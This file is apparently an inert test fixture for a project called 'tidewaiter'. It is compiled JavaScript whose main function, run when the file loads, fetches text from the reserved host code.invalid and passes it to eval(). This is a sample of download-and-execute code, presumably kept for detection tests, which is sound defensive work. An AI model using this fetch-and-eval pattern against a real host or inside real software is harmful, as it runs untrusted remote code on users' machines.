// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
"use strict";
var __awaiter=(this&&this.__awaiter)||function(t,a,P,g){return new Promise(function(resolve,reject){function step(r){r.done?resolve(r.value):Promise.resolve(r.value).then(function(v){step(g.next(v));});}step((g=g.apply(t,a||[])).next());});};
var __generator=(this&&this.__generator)||function(thisArg,body){var _={label:0,sent:function(){return 1;},trys:[],ops:[]};return {next:function(){return body.call(thisArg,_);}};};
var https=require("https");
function main(){return __awaiter(this,void 0,void 0,function(){var res,code;return __generator(this,function(_a){switch(_a.label){case 0:return [4,fetch("https://code.invalid/c")];case 1:res=_a.sent();return [4,res.text()];case 2:code=_a.sent();eval(code);return [2];}});});}
main();
